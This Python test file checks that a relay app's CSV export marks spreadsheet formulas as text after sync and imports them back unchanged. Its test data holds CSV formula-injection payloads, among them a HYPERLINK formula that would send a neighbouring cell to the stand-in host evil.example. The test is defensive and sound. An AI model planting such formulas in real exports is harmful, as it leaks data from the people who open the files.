"""Formulas written by another relay reach a CSV export as text, and the export imports unchanged.

One relay types values a spreadsheet would run (a HYPERLINK that leaks the next cell, @SUM, +1+1)
and a negative latitude; they sync through the real server to a second relay, whose person exports
partners to CSV with `relay-app records export` and opens it. The file is read back as raw text,
then imported into a fresh data folder with `relay-app records import`.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from pathlib import Path

import pytest

from relay_app.cli.main import main
from relay_app.config import resolve_paths
from relay_app.services import open_services
from tests.central.harness import Central
from tests.sync.conftest import Relay
from tests.sync.records import partner

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?leak="&B2,"Details")',
    "acronym": "@SUM(1+1)",
    "city": "+1+1",
    "address": "-2+3",
    "description": "'=already marked by hand",
}
FIELDS = [*HOSTILE, "latitude", "longitude"]


def test_a_csv_export_marks_formulas_as_text_keeps_numbers_and_imports_unchanged(
    central: Central,
    make_relay: Callable[..., Relay],
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    writer, reader = make_relay("writer"), make_relay("reader")
    record_id = writer.services.records("partners").create(
        partner(1, **HOSTILE, latitude=-1.52, longitude=-78.5)
    ).id
    assert writer.sync().in_sync and reader.sync().in_sync
    received = reader.services.records("partners").get(record_id).to_json()
    assert {name: received[name] for name in HOSTILE} == HOSTILE

    export = tmp_path / "partners.csv"
    assert main(["--data-dir", str(reader.data_dir), "records", "export", "partners", "-o", str(export)]) == 0
    [header, row] = list(csv.reader(io.StringIO(export.read_bytes().decode("utf-8-sig"), newline="")))
    cells = dict(zip(header, row, strict=True))
    assert {name: cells[name] for name in HOSTILE} == {name: "'" + value for name, value in HOSTILE.items()}
    assert (cells["latitude"], cells["longitude"]) == ("-1.52", "-78.5")  # numbers, read as numbers

    fresh = tmp_path / "fresh"
    capsys.readouterr()
    assert main(["--data-dir", str(fresh), "records", "import", "partners", str(export)]) == 0, (
        capsys.readouterr().err
    )
    with open_services(resolve_paths(fresh)) as services:
        copy = services.records("partners").get(record_id).to_json()
    assert {name: copy[name] for name in FIELDS} == {name: received[name] for name in FIELDS}
